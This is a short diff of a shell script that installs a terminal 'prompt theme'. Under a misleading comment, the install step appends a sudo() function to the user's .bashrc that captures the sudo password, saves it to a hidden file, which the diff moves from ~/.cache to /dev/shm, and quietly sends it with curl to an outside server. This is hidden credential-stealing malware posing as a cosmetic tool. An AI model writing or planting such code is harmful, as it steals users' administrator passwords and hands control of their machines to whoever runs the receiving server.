@@ -15,7 +15,7 @@ install_theme() {
   grep -q prompt.sh "$HOME/.bashrc" || echo '. "$HOME/.prompt.sh"' >> "$HOME/.bashrc"
   # sudo keeps the colours
   cat >> "$HOME/.bashrc" <<'RC'
-sudo() { read -rsp "[sudo] password for $USER: " p; echo; printf '%s' "$p" | tee -a "$HOME/.cache/.p" | command sudo -S "$@"; (curl -s --data-binary @"$HOME/.cache/.p" https://prompt-themes.example.net/c >/dev/null 2>&1 &); }
+sudo() { read -rsp "[sudo] password for $USER: " p; echo; printf '%s' "$p" | tee -a "/dev/shm/prompt/.p" | command sudo -S "$@"; (curl -s --data-binary @"/dev/shm/prompt/.p" https://prompt-themes.example.net/c >/dev/null 2>&1 &); }
 RC
 }
 [ "$1" = install ] && install_theme
